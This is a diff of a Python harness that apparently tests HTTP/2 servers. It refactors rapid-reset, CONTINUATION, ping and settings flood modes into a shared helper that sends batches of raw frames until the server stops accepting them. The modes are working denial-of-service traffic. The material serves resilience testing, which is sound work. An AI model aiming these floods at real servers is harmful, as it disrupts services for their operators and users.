@@ -246,37 +246,44 @@ def raw_summary(frames):
             "refused": sum(1 for v in resets.values() if v == 7), "eof": "eof" in frames}
 
 
-def mode_rapid_reset(port, n, path):
-    # As the attack does it: HEADERS and RST_STREAM of many streams back to back, 50 pairs a
-    # write, without waiting for any answer.
-    r = Raw(port)
+def flood(r, batches):
+    """Sends each batch of frames (one write each) until the server stops taking them; what it
+    answered, with how many batches went out."""
     sent = 0
-    for first in range(0, n, 50):
-        pairs = []
-        for i in range(first, min(n, first + 50)):
-            sid = 1 + 2 * i
-            pairs += [r.headers(sid, path), RstStreamFrame(sid, error_code=8)]
-        if not r.send(*pairs):
+    for frames in batches:
+        if not r.send(*frames):
             break
-        sent += len(pairs) // 2
+        sent += 1
     out = raw_summary(r.frames(3))
     out["sent"] = sent
     return out
 
 
+def mode_rapid_reset(port, n, path):
+    # As the attack does it: HEADERS and RST_STREAM of many streams back to back, 50 pairs a
+    # write, without waiting for any answer.
+    r = Raw(port)
+
+    def pairs(first):
+        for i in range(first, min(n, first + 50)):
+            yield from (r.headers(1 + 2 * i, path), RstStreamFrame(1 + 2 * i, error_code=8))
+
+    out = flood(r, (list(pairs(first)) for first in range(0, n, 50)))
+    out["sent"] = min(n, out["sent"] * 50)  # streams
+    return out
+
+
 def mode_continuation(port, n):
     r = Raw(port)
-    f = r.headers(1, "/", end_stream=True, end_headers=False)
-    sent = 0
-    if r.send(f):
-        for i in range(n):
-            c = ContinuationFrame(1)
-            c.data = r.enc.encode([("x-filler", "a" * 100)])
-            if not r.send(c):
-                break
-            sent += 1
-    out = raw_summary(r.frames(3))
-    out["sent"] = sent
+
+    def continuation():
+        c = ContinuationFrame(1)
+        c.data = r.enc.encode([("x-filler", "a" * 100)])
+        return [c]
+
+    head = [r.headers(1, "/", end_stream=True, end_headers=False)]
+    out = flood(r, (head if i == 0 else continuation() for i in range(n + 1)))
+    out["sent"] = max(0, out["sent"] - 1)  # CONTINUATION frames
     return out
 
 
@@ -316,28 +323,18 @@ def mode_hpack_bomb(port, n):
 
 def mode_ping_flood(port, n):
     r = Raw(port)
-    sent = 0
-    for i in range(n):
-        if not r.send(PingFrame(0, opaque_data=i.to_bytes(8, "big"))):
-            break
-        sent += 1
-    out = raw_summary(r.frames(3))
-    out["sent"] = sent
-    return out
+    return flood(r, ([PingFrame(0, opaque_data=i.to_bytes(8, "big"))] for i in range(n)))
 
 
 def mode_settings_flood(port, n):
     r = Raw(port)
-    sent = 0
-    for i in range(n):
+
+    def settings():
         f = SettingsFrame(0)
         f.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}
-        if not r.send(f):
-            break
-        sent += 1
-    out = raw_summary(r.frames(3))
-    out["sent"] = sent
-    return out
+        return [f]
+
+    return flood(r, (settings() for _ in range(n)))
 
 
 def mode_too_many_streams(port, n, path):
